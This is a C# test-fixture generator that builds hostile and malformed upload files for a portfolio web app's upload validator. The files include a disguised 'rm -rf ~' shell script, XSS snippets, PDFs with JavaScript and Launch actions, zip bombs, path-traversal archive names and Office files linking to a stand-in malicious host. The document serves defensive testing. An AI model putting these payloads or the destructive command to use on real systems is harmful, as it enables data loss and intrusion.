using System.Buffers.Binary;
using System.Globalization;
using System.IO.Hashing;
using System.Text;
using SmkPortfolio.WebTests.Data.EvidenceFiles;

namespace SmkPortfolio.WebTests.Uploads.Hostile;

/// <summary>A file that nobody should be able to hand in.</summary>
public sealed record HostileFile(string Class, string Name, byte[] Content)
{
    public override string ToString() => $"{Class}: {Name}";
}

/// <summary>
/// Makes hostile and broken files, each refused for what it holds whatever it is called. The same seed makes the same files; nothing of it is stored.
/// </summary>
internal static class HostileFiles
{
    private const int Seed = 20261130;

    public static IReadOnlyList<HostileFile> All { get; } = [.. Make()];

    private static IEnumerable<HostileFile> Make()
    {
        var random = new Random(Seed);
        var classes = new (string Name, IEnumerable<(string Name, byte[] Content)> Files)[]
        {
            ("empty or nearly", Nearly()),
            ("cut off", CutOff(random)),
            ("another kind under a good name", Strangers()),
            ("something behind the end", Trailing(random)),
            ("two kinds at once", Polyglots()),
            ("picture: wrong sum or order", Pictures(random)),
            ("picture or clip too large to draw", TooManyPixels(random)),
            ("clip: boxes that lie", Boxes(random)),
            ("webm: elements that lie", Elements(random)),
            ("sound: frames and pages that lie", Sounds(random)),
            ("heic: items that lie", Items(random)),
            ("pdf: acts, locked or broken", Pdfs()),
            ("pdf: too many pages", Pages(random)),
            ("unpacks without end", Bombs(random)),
            ("office: macros, programs, objects", ActiveOffices()),
            ("office: fetches from elsewhere", Fetching()),
            ("office: locked, old or no document", OldOffices(random)),
            ("zip: names that lead out", Names()),
            ("zip: members that lie", Members(random)),
            ("zip: what is not taken alone", Contents()),
            ("made to be read for ever", Endless()),
        };
        return classes.SelectMany(c => c.Files.Select(f => new HostileFile(c.Name, f.Name, f.Content)));
    }

    private static byte[] Jpeg => Fixtures.Read("bare.jpg");
    private static byte[] Png => Fixtures.Read("bare.png");

    private static (string Name, byte[] Content)[] Sound =>
    [
        ("foto.jpg", Fixtures.Read("bare.jpg")), ("foto.png", Fixtures.Read("bare.png")), ("foto.webp", Fixtures.Read("bare.webp")), ("foto.heic", IsoFiles.Heic(told: true)),
        ("laporan.pdf", PdfFiles.Plain), ("klip.mp4", IsoFiles.Clip(told: true)), ("klip.mov", IsoFiles.Clip(true, "qt  ")), ("klip.webm", SoundFiles.Webm(told: true)),
        ("suara.wav", SoundFiles.Wav()), ("suara.flac", SoundFiles.Flac()), ("laporan.docx", PackageFiles.Office()), ("berkas.zip", PackageFiles.Zip(("a.jpg", Fixtures.Read("bare.jpg")))),
    ];

    private static IEnumerable<(string, byte[])> Nearly() =>
    [
        ("kosong.jpg", []), ("satu.jpg", [0xFF]), ("dua.jpg", [0xFF, 0xD8]), ("awal.png", [0x89, (byte)'P', (byte)'N', (byte)'G']), ("awal.pdf", "%PDF-1.7"u8.ToArray()),
        ("awal.mp4", [0, 0, 0, 24, .. "ftypisom"u8]), ("awal.webm", [0x1A, 0x45, 0xDF, 0xA3]), ("awal.zip", "PK\u0003\u0004"u8.ToArray()), ("akhir.zip", [.. "PK\u0005\u0006"u8, .. new byte[18]]), ("nol.bin", new byte[4096]),
    ];

    private static IEnumerable<(string, byte[])> CutOff(Random random) => Sound.SelectMany(s => Enumerable.Range(0, 3).Select(_ =>
    {
        var length = random.Next(16, s.Content.Length - 1);
        return (Numbered(length, s.Name), s.Content[..length]);
    }));

    private static IEnumerable<(string, byte[])> Strangers() =>
    [
        ("gambar.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()), ("gambar.jpg", "<?xml version='1.0'?><svg onload='alert(1)'/>"u8.ToArray()),
        ("laporan.pdf", "<!doctype html><script>alert(1)</script>"u8.ToArray()), ("foto.png", "<script>alert(1)</script>"u8.ToArray()), ("foto.jpg", [.. "MZ"u8, 0x90, .. new byte[200]]),
        ("foto.webp", [0x7F, .. "ELF"u8, 2, 1, .. new byte[60]]), ("foto.jpeg", "#!/bin/sh\nrm -rf ~\n"u8.ToArray()), ("klip.mp4", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]), ("gambar.png", "GIF89a\u0001\u0000"u8.ToArray()),
        ("gambar.bmp", [.. "BM"u8, 1, 2, 0, 0, 0, 0, 0, 0, 54, 0]), ("gambar.tif", [.. "II*\0"u8, 8, 0, 0, 0]), ("klip.mkv", SoundFiles.Webm(type: "matroska")), ("klip.avi", [.. "RIFF"u8, 1, 0, 0, 0, .. "AVI LIST"u8]),
        ("arsip.zip", [.. "Rar!"u8, 0x1A, 7, 0]), ("arsip.7z", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C]), ("arsip.gz", [0x1F, 0x8B, 8, 0]), ("surat.docx", "{\\rtf1 halo}"u8.ToArray()), ("surat.pdf", "%!PS-Adobe-3.0"u8.ToArray()),
        ("suara.mp3", "#!AMR\n"u8.ToArray()), ("gambar.avif", [0, 0, 0, 24, .. "ftypavif"u8, 0, 0, 0, 0]), ("catatan.pdf", "Catatan praktik las"u8.ToArray()), ("skrip.mp4", "function a(){}"u8.ToArray()),
    ];

    private static IEnumerable<(string, byte[])> Trailing(Random random) => Sound.Where(s => s.Name is not ("foto.jpg" or "foto.png" or "foto.webp" or "laporan.pdf")).SelectMany(s => Enumerable.Range(2, 2).Select(i =>
    {
        var junk = new byte[random.Next(2, 90) * i];
        random.NextBytes(junk);
        junk[0] = 0xFF;
        return (Numbered(junk.Length, s.Name), (byte[])[.. s.Content, .. junk]);
    }));

    private static IEnumerable<(string, byte[])> Polyglots()
    {
        var archive = PackageFiles.Zip(("a.txt", "x"u8.ToArray()));
        var page = "\n<!doctype html><script>alert(1)</script>"u8.ToArray();
        foreach (var (name, content) in Sound.Where(s => !s.Name.EndsWith("zip", StringComparison.Ordinal) && !s.Name.EndsWith("docx", StringComparison.Ordinal)))
        {
            yield return ("zip-" + name, [.. content, .. archive]);
            yield return ("html-" + name, [.. content, .. page]);
        }
        foreach (var (name, content) in Sound.Take(3))
        {
            yield return ("pdf-" + name, [.. content, .. PdfFiles.Plain]);
            yield return ("exe-" + name, [.. content, .. "MZ"u8, 0x90, 0]);
        }
        yield return ("kepala.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(PdfFiles.Plain).Replace("%PDF-1.7\n", "%PDF-1.7\n%<Html>\n", StringComparison.Ordinal)));
        yield return ("gambar.gif", "GIF89a=/*"u8.ToArray().Concat("*/1;alert(1)//"u8.ToArray()).ToArray());
        var wav = SoundFiles.Wav();
        "<html><script>"u8.CopyTo(wav.AsSpan(44));
        yield return ("kepala.wav", wav);
        yield return ("komentar.zip", PackageTests.Commented("<script>alert(1)</script>"));
        yield return ("komentar-pdf.zip", PackageTests.Commented("%PDF-1.7"));
        yield return ("awalan.zip", [.. "PK\u0003\u0004"u8, .. "<script>"u8, .. archive]);
        yield return ("suara.mp3", [.. SoundFiles.Mp3(), .. archive]);
        yield return ("suara.ogg", [.. SoundFiles.Opus(), .. page]);
    }

    private static IEnumerable<(string, byte[])> Pictures(Random random)
    {
        for (var i = 0; i < 8; i++)
        {
            var png = Png;
            png[random.Next(8, png.Length)] ^= (byte)(1 << random.Next(8));
            yield return (Numbered(i, "salah.png"), png);
        }
        yield return ("tanpa-data.png", [.. Png[..33], .. Png[^12..]]);
        yield return ("dua-kepala.png", [.. Png[..33], .. Png[8..]]);
        yield return ("tanpa-pindai.jpg", [0xFF, 0xD8, 0xFF, 0xD9]);
        yield return ("panjang-nol.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, .. Jpeg[4..]]);
        yield return ("aritmetika.jpg", [0xFF, 0xD8, 0xFF, 0xC9, 0, 2, .. Jpeg[2..]]);
        yield return ("riff.webp", [.. "RIFF"u8, 0xFF, 0xFF, 0xFF, 0x7F, .. Fixtures.Read("bare.webp")[8..]]);
    }

    private static IEnumerable<(string, byte[])> TooManyPixels(Random random)
    {
        for (var i = 0; i < 4; i++)
        {
            var png = Png;
            BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), random.Next(20_000, int.MaxValue));
            BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(20), random.Next(20_000, int.MaxValue));
            BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), Crc32.HashToUInt32(png.AsSpan(12, 17)));
            yield return (Numbered(i, "raksasa.png"), png);
        }
        var jpeg = Jpeg;
        var frame = jpeg.AsSpan().IndexOf<byte>([0xFF, 0xC0]);
        jpeg.AsSpan(frame + 5, 4).Fill(0xFE);
        yield return ("raksasa.jpg", jpeg);
        var heic = IsoFiles.Heic();
        heic.AsSpan(heic.AsSpan().IndexOf("ispe"u8) + 9, 2).Fill(0x0F);
        heic.AsSpan(heic.AsSpan().IndexOf("ispe"u8) + 13, 2).Fill(0x0F);
        yield return ("raksasa.heic", heic);
        var clip = IsoFiles.Clip();
        IsoFiles.Int(-1).CopyTo(clip, clip.AsSpan().IndexOf("tkhd"u8) + 80);
        IsoFiles.Int(-1).CopyTo(clip, clip.AsSpan().IndexOf("tkhd"u8) + 84);
        yield return ("raksasa.mp4", clip);
    }

    private static IEnumerable<(string, byte[])> Boxes(Random random)
    {
        foreach (var box in new[] { "moov", "trak", "mdia", "minf", "stbl", "mvhd" })
        {
            yield return ("panjang-" + box + ".mp4", Changed(IsoFiles.Clip(), box, -4, (byte)random.Next(1, 256)));
            yield return ("nol-" + box + ".mp4", Changed(Changed(Changed(IsoFiles.Clip(), box, -1, 4), box, -2, 0), box, -3, 0));
        }
        foreach (var box in new[] { "stsz", "stsc", "stco", "mdat", "moov", "stsd" })
        {
            yield return ("tanpa-" + box + ".mp4", Renamed(IsoFiles.Clip(), box));
        }
        foreach (var box in new[] { "stsz", "stsc", "stco", "stsd" })
        {
            yield return ("banyak-" + box + ".mp4", Changed(IsoFiles.Clip(), box, box == "stsz" ? 12 : 8, (byte)random.Next(1, 256)));
        }
        yield return ("luar.mp4", Changed(IsoFiles.Clip(), "url ", 7, 0));
        yield return ("ke-awal.mp4", Changed(Changed(IsoFiles.Clip(), "stco", 14, 0), "stco", 15, 1));
        yield return ("dua-moov.mp4", [.. IsoFiles.Clip(), .. IsoFiles.Box("moov")]);
        var deep = IsoFiles.Box("stbl");
        for (var i = 0; i < 200; i++)
        {
            deep = IsoFiles.Box("trak", deep);
        }
        yield return ("dalam.mp4", [.. IsoFiles.Box("ftyp", "isom"u8.ToArray(), IsoFiles.Int(0)), .. IsoFiles.Box("moov", deep)]);
        yield return ("butiran.mp4", [.. IsoFiles.Box("ftyp", "isom"u8.ToArray(), IsoFiles.Int(0)), .. Enumerable.Repeat(IsoFiles.Box("free"), 100_001).SelectMany(b => b)]);
        yield return ("besar64.mov", [0, 0, 0, 1, .. "mdat"u8, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
    }

    private static IEnumerable<(string, byte[])> Elements(Random random)
    {
        var webm = SoundFiles.Webm();
        yield return ("tanpa-trek.webm", Replaced(webm, [0x16, 0x54, 0xAE, 0x6B], [0x16, 0x54, 0xAE, 0x6C]));
        yield return ("tanpa-klaster.webm", Replaced(Replaced(webm, [0x1F, 0x43, 0xB6, 0x75], [0x12, 0x54, 0xC3, 0x67]), [0x1F, 0x43, 0xB6, 0x75], [0x12, 0x54, 0xC3, 0x67]));
        yield return ("teks.webm", Replaced(webm, [0x83, 0x81, 1], [0x83, 0x81, 0x11]));
        yield return ("lebar-nol.webm", Replaced(webm, [0xB0, 0x81, 64], [0xB0, 0x81, 0]));
        yield return ("pengenal.webm", Replaced(webm, [0x18, 0x53, 0x80, 0x67], [0, 0x53, 0x80, 0x67]));
        for (var i = 0; i < 3; i++)
        {
            yield return (Numbered(i, "panjang.webm"), Replaced(webm, [0xA3, (byte)(0x80 | SoundFiles.Block.Length)], [0xA3, (byte)(0x80 | random.Next(SoundFiles.Block.Length + 1, 127))]));
        }
    }

    private static IEnumerable<(string, byte[])> Sounds(Random random)
    {
        for (var i = 0; i < 3; i++)
        {
            var ogg = SoundFiles.Opus();
            ogg[random.Next(30, ogg.Length)] ^= 0x10;
            yield return (Numbered(i, "jumlah.ogg"), ogg);
        }
        yield return ("urutan.ogg", [.. SoundFiles.Opus()[..47], .. SoundFiles.OggPage(0, 0, 5, [16], "OpusTags\0\0\0\0\0\0\0\0"u8.ToArray())]);
        yield return ("speex.ogg", SoundFiles.OggPage(2, 0, 0, [80], [.. "Speex   "u8, .. new byte[72]]));
        yield return ("satu.mp3", SoundFiles.Mp3Frames[..104]);
        yield return ("id3.mp3", [.. "ID3"u8, 3, 0, 0, 0x7F, 0x7F, 0x7F, 0x7F, 0]);
        yield return ("lapisan.mp3", [0xFF, 0xFB, 0xF0, 0, .. new byte[400]]);
        yield return ("tanpa-fmt.wav", Replaced(SoundFiles.Wav(), "fmt "u8.ToArray(), "fmx "u8.ToArray()));
        yield return ("tanpa-data.wav", Replaced(SoundFiles.Wav(), "data"u8.ToArray(), "datx"u8.ToArray()));
        yield return ("panjang.wav", Replaced(SoundFiles.Wav(), [.. "data"u8, 40], [.. "data"u8, 200]));
        yield return ("bingkai.flac", [.. SoundFiles.Flac()[..^45], .. new byte[45]]);
        yield return ("blok.flac", [.. "fLaC"u8, 4, 0, 0, 0]);
    }

    private static IEnumerable<(string, byte[])> Items(Random random)
    {
        var heic = IsoFiles.Heic(told: true);
        yield return ("tanpa-utama.heic", Renamed(heic, "pitm"));
        yield return ("tanpa-tempat.heic", Renamed(heic, "iloc"));
        yield return ("tanpa-butir.heic", Renamed(heic, "iinf"));
        yield return ("tanpa-ukuran.heic", Renamed(heic, "ispe"));
        yield return ("utama-lain.heic", Changed(heic, "pitm", 9, 9));
        yield return ("luar.heic", Changed(heic, "iloc", 15, 1));
        for (var i = 0; i < 3; i++)
        {
            yield return (Numbered(i, "ke-luar.heic"), Changed(heic, "iloc", 18, (byte)random.Next(1, 256)));
        }
        // The place data name the picture's own bytes.
        var same = IsoFiles.Heic(told: true);
        var table = same.AsSpan().IndexOf("iloc"u8) + 12;
        same.AsSpan(table + 8, 4).CopyTo(same.AsSpan(table + 8 + 2 * 16));
        yield return ("tumpang.heic", same);
    }

    private static IEnumerable<(string, byte[])> Pdfs()
    {
        foreach (var (name, catalogue) in new[]
        {
            ("skrip.pdf", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), ("skrip-samar.pdf", "/OpenAction << /S /J#61vaScript /JS (1) >>"), ("luncur.pdf", "/OpenAction << /S /Launch /F (calc) >>"),
            ("formulir.pdf", "/AcroForm << /XFA [] >>"), ("media.pdf", "/Annots [ << /Subtype /RichMedia >> ]"), ("program.pdf", "/Spec << /Type /Filespec /F (setup.exe) >>"), ("kunci.pdf", "/Encrypt 4 0 R"),
        })
        {
            yield return (name, PdfFiles.With(catalogue));
        }
        yield return ("lampiran.pdf", PdfFiles.With("", PdfFiles.Stream("/Type /EmbeddedFile", [.. "MZ"u8, .. new byte[100]])));
        yield return ("tersembunyi.pdf", PdfFiles.With("", PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PdfFiles.Deflated(PdfFiles.Ascii("9 0 << /S /JavaScript /JS (1) >>")))));
        yield return ("gelap.pdf", PdfFiles.With("", PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", "392030203C3C3E3E>"u8.ToArray())));
        var text = Encoding.Latin1.GetString(PdfFiles.Plain);
        yield return ("tanpa-akhir.pdf", PdfFiles.Ascii(text.Replace("%%EOF", "", StringComparison.Ordinal)));
        yield return ("tanpa-tabel.pdf", PdfFiles.Ascii(text.Replace("startxref\n", "startxref\n9", StringComparison.Ordinal)));
        yield return ("tanpa-versi.pdf", PdfFiles.Ascii(text.Replace("%PDF-1.7", "%PDF-x.7", StringComparison.Ordinal)));
    }

    private static IEnumerable<(string, byte[])> Pages(Random random)
    {
        yield return ("301.pdf", PdfFiles.With("", [.. Enumerable.Repeat(PdfFiles.Ascii("<< /Type /Page /Parent 2 0 R >>"), 300)]));
        for (var i = 0; i < 3; i++)
        {
            yield return (Numbered(i, "kata.pdf"), PdfFiles.With(string.Create(CultureInfo.InvariantCulture, $"/Other << /Type /Pages /Kids [3 0 R] /Count {random.Next(301, int.MaxValue)} >>")));
        }
        var packed = PdfFiles.Deflated(PdfFiles.Ascii(string.Concat(Enumerable.Repeat("<</Type/Page/Parent 2 0 R>>", random.Next(301, 5000)))));
        yield return ("padat.pdf", PdfFiles.With("", PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed)));
    }

    private static IEnumerable<(string, byte[])> Bombs(Random random)
    {
        yield return ("bom.pdf", PdfFiles.With("", PdfFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PdfFiles.Deflated(new byte[70_000_000]))));
        for (var i = 0; i < 3; i++)
        {
            yield return (Numbered(i, "bom.docx"), PackageFiles.Office("docx", "", "", ("word/media/a.bin", new byte[random.Next(3_000_000, 20_000_000)])));
            yield return (Numbered(i, "bom.zip"), PackageFiles.Zip(("a.png", new byte[random.Next(3_000_000, 20_000_000)])));
        }
        yield return ("lapis.zip", PackageFiles.Zip(("a.zip", PackageFiles.Zip(("b.zip", PackageFiles.Zip(("c.zip", new byte[900_000])))))));
        yield return ("entitas.docx", PackageFiles.Office("docx", "", "", ("[Content_Types].xml", PackageFiles.Text("<!DOCTYPE a [<!ENTITY b 'bbbbbbbbbb'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>"))));
        // Says that it is small.
        var lying = PackageFiles.Zip(("a.png", new byte[500_000]));
        var record = lying.AsSpan().IndexOf("PK\u0001\u0002"u8);
        BinaryPrimitives.WriteInt32LittleEndian(lying.AsSpan(22), 1000);
        BinaryPrimitives.WriteInt32LittleEndian(lying.AsSpan(record + 24), 1000);
        yield return ("bohong.zip", lying);
    }

    private static IEnumerable<(string, byte[])> ActiveOffices() => PackageFiles.Offices.SelectMany(o => new (string, byte[])[]
    {
        ("makro." + o.Kind, PackageFiles.Office(o.Kind, "<Override PartName=\"/x/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
        ("makro-m." + o.Kind, PackageFiles.Office(o.Kind, "<Override PartName=\"/x.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
        ("vba." + o.Kind, PackageFiles.Office(o.Kind, "", "", ("x/vbaProject.bin", [1, 2, 3]))),
        ("kendali." + o.Kind, PackageFiles.Office(o.Kind, "", "", ("x/activeX/activeX1.xml", "<a/>"u8.ToArray()))),
        ("objek." + o.Kind, PackageFiles.Office(o.Kind, "", "", ("x/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]))),
        ("program." + o.Kind, PackageFiles.Office(o.Kind, "", "", ("x/media/image1.png", [.. "MZ"u8, 0x90, 0]))),
        ("halaman." + o.Kind, PackageFiles.Office(o.Kind, "", "", ("x/afchunk.htm", "<html><script>1</script>"u8.ToArray()))),
    });

    private static IEnumerable<(string, byte[])> Fetching() => PackageFiles.Offices.SelectMany(o => new (string, byte[])[]
    {
        ("templat." + o.Kind, PackageFiles.Office(o.Kind, "", PackageFiles.Link("attachedTemplate", "https://jahat.example/t.dotm"))),
        ("gambar." + o.Kind, PackageFiles.Office(o.Kind, "", PackageFiles.Link("image", "http://jahat.example/a.png"))),
        ("tautan." + o.Kind, PackageFiles.Office(o.Kind, "", PackageFiles.Link("hyperlink", "file://server/a"))),
        ("skrip." + o.Kind, PackageFiles.Office(o.Kind, "", PackageFiles.Link("hyperlink", "javascript:alert(1)"))),
    });

    private static IEnumerable<(string, byte[])> OldOffices(Random random)
    {
        byte[] old = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[3000]];
        yield return ("lama.doc", old);
        for (var i = 0; i < 2; i++)
        {
            var locked = old.ToArray();
            Encoding.Unicode.GetBytes("EncryptedPackage").CopyTo(locked, random.Next(100, 2900));
            yield return (Numbered(i, "kunci.docx"), locked);
        }
        yield return ("bukan.docx", PackageFiles.Zip(("[Content_Types].xml", "<Types/>"u8.ToArray())));
        yield return ("rusak.docx", PackageFiles.Zip(("[Content_Types].xml", "<Types"u8.ToArray())));
        yield return ("surat.odt", PackageFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"u8.ToArray())));
    }

    private static IEnumerable<(string, byte[])> Names() =>
        ((string[])["../a.jpg", "/a.jpg", "a/../../b.jpg", "..\\a.jpg", "C:a.jpg", "a//b.jpg", "a/./b.jpg", " /b.jpg", "1/2/3/4/5/6/7/8/9/10.jpg", "a\\b.jpg"])
        .Select((name, i) => (Numbered(i, "nama.zip"), PackageFiles.Zip((name, Jpeg))))
        .Append(("kembar.zip", PackageFiles.Zip(("a.jpg", Jpeg), ("A.JPG", Jpeg))))
        .Append(("keluar.docx", PackageFiles.Office("docx", "", "", ("../a.xml", "<a/>"u8.ToArray()))));

    private static IEnumerable<(string, byte[])> Members(Random random)
    {
        yield return ("tumpang.zip", PackageTests.Overlapping());
        yield return ("sandi.zip", PackageTests.Flagged(1));
        yield return ("sandi-kuat.zip", PackageTests.Flagged(0x41));
        yield return ("banyak.zip", PackageFiles.Zip([.. Enumerable.Range(0, 201).Select(i => (Numbered(i, "a.jpg"), Jpeg))]));
        var zip = PackageFiles.Zip(("a.jpg", Jpeg), ("b.png", Png));
        var record = zip.AsSpan().IndexOf("PK\u0001\u0002"u8);
        foreach (var (name, at) in new[] { ("cara", 10), ("jumlah", 16), ("panjang", 20), ("isi", 24), ("tempat", 42), ("nama", 46) })
        {
            var changed = zip.ToArray();
            changed[record + at] ^= (byte)random.Next(1, 256);
            yield return (name + ".zip", changed);
        }
        var hole = zip.ToArray();
        hole[^6] ^= 1;
        yield return ("lubang.zip", hole);
        var data = zip.ToArray();
        data[200] ^= 0x55;
        yield return ("data.zip", data);
    }

    private static IEnumerable<(string, byte[])> Contents() => new (string, byte[])[]
    {
        ("halaman.html", "<html><script>1</script>"u8.ToArray()), ("gambar.svg", "<svg onload='1'/>"u8.ToArray()), ("program.exe", "MZ\0\0"u8.ToArray()), ("foto.jpg", [0x7F, .. "ELF"u8]),
        ("terpotong.jpg", Jpeg[..100]), ("skrip.pdf", PdfFiles.With("/OpenAction << /S /JavaScript >>")), ("makro.docx", PackageFiles.Office("docx", "", "", ("word/vbaProject.bin", [1]))),
        ("lagi.zip", PackageFiles.Zip(("a.jpg", Jpeg))), ("lagi.gz", [0x1F, 0x8B, 8, 0]), ("kosong.jpg", []), ("ganda.jpg", [.. Jpeg, .. "<html><script>1</script>"u8]),
    }.Select(f => (Path.GetFileNameWithoutExtension(f.Item1) + "-di-dalam.zip", PackageFiles.Zip(("a.jpg", Jpeg), f)));

    /// <summary>Small to send; whoever looks at every thing as often as it is named never comes to an end.</summary>
    private static IEnumerable<(string, byte[])> Endless()
    {
        yield return ("hitung.pdf", PdfFiles.With("/A [ " + string.Concat(Enumerable.Repeat("/Count ", 400_000)) + "] /S /JavaScript"));
        byte[] places = [.. IsoFiles.Int(0x02000000), 0, 0, .. IsoFiles.Int(50_000), .. Enumerable.Repeat((byte[])[0, 0, 0, 1, 0, 0, 0, 0, 0xFF, 0xFF], 50_000).SelectMany(p => p)];
        yield return ("tempat.heic", [.. IsoFiles.Box("ftyp", "heic"u8.ToArray(), IsoFiles.Int(0)), .. IsoFiles.Box("meta", IsoFiles.Int(0), IsoFiles.Box("pitm", IsoFiles.Int(0), IsoFiles.Short(1)),
            IsoFiles.Box("iinf", IsoFiles.Int(0), IsoFiles.Short(1), IsoFiles.Box("infe", IsoFiles.Int(0x02000000), IsoFiles.Short(1), IsoFiles.Short(0), "hvc1\0"u8.ToArray())), IsoFiles.Box("iloc", places))]);
        yield return ("lirik.mp3", [.. SoundFiles.Mp3Frames, .. Enumerable.Repeat("LYRICSBEGINLYRICS200"u8.ToArray(), 50_000).SelectMany(l => l)]);
        yield return ("sinkron.flac", [.. SoundFiles.Flac(), .. Enumerable.Repeat((byte[])[0xFF, 0xF8], 1_000_000).SelectMany(f => f)]);
    }

    private static string Numbered(int number, string name) => number.ToString(CultureInfo.InvariantCulture) + "-" + name;

    private static byte[] Renamed(byte[] content, string box) => Replaced(content, Encoding.ASCII.GetBytes(box), "xxxx"u8.ToArray());

    private static byte[] Replaced(byte[] content, byte[] from, byte[] to)
    {
        content = [.. content];
        var at = content.AsSpan().IndexOf(from);
        Assert.True(at >= 0 && from.Length == to.Length, "The file does not hold what should be changed.");
        to.CopyTo(content, at);
        return content;
    }

    private static byte[] Changed(byte[] content, string box, int at, byte value)
    {
        content = [.. content];
        content[content.AsSpan().IndexOf(Encoding.ASCII.GetBytes(box)) + at] = value;
        return content;
    }
}
